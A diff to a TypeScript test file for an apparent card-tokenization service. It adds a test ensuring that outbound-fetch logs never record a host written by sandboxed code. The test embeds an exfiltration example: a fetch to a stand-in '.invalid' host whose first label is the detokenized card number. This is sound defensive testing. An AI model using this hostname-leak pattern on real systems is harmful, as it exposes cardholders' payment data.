@@ -122,7 +122,7 @@ describe("fetch in reactor formulas", () => {
     const logged = info.mock.calls.filter(([message]) => message === "Outbound fetch");
     expect(logged).toHaveLength(1);
     expect(logged[0]?.[1]).toMatchObject({
-      host: new URL(partner.url).host,
+      host: "(not in allowed_hosts)", // the code wrote it: it may carry data (an allowed_hosts entry is logged)
       method: "POST",
       status: 200,
       bytesOut: expect.any(Number),
@@ -202,6 +202,38 @@ describe("fetch in reactor formulas", () => {
     expect(res.headers.get("content-type")).toContain("application/problem+json");
     expect(res.body).toMatchObject({ status: 500 });
     await anotherTenantStillCalls();
+  });
+
+  it("logs the allowed_hosts entry a request matched, never a host the code wrote (it may carry token data)", async () => {
+    const info = vi.spyOn(logger, "info");
+    const { host } = new URL(partner.url);
+    const listed = await reactorRunning(CAUGHT(`await fetch("${partner.url}/listed");`), {
+      allowed_hosts: [host],
+    });
+    // The card number as the host's first label: before, `host` in the log line held it.
+    const exfiltrating = await reactorRunning(
+      CAUGHT(`await fetch("http://" + req.args.card.number + ".invalid/x");`),
+    );
+    const card = await listed.api.post<TokenBody>("/tokens", {
+      key: listed.user,
+      body: { type: "card", data: { number: VISA, expiration_month: 1, expiration_year: 2031 } },
+    });
+    const card2 = await exfiltrating.api.post<TokenBody>("/tokens", {
+      key: exfiltrating.user,
+      body: { type: "card", data: { number: VISA, expiration_month: 1, expiration_year: 2031 } },
+    });
+
+    await listed.react();
+    await exfiltrating.react({ card: { number: `{{ ${card2.body.id} | json: '$.number' }}` } });
+
+    const hosts = info.mock.calls.filter(([message]) => message === "Outbound fetch").map(([, line]) => line);
+    info.mockRestore();
+    expect(card.status).toBe(201);
+    expect(hosts).toEqual([
+      expect.objectContaining({ host, status: 200 }),
+      expect.objectContaining({ host: "(not in allowed_hosts)" }),
+    ]);
+    expect(JSON.stringify(hosts)).not.toContain(VISA);
   });
 
   it("keeps detokenized data on the formula's allowed hosts, redirects included", async () => {
